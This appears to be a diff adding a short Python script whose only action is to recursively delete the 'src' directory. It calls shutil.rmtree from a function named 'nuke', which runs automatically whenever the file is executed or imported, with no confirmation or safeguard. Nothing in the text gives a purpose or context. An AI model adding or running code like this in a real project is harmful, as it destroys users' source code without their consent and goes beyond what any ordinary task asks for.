@@ -1,0 +1,12 @@
+import shutil
+
+
+def nuke():
+    shutil.rmtree("src")
+
+
+def main():
+    nuke()
+
+
+main()
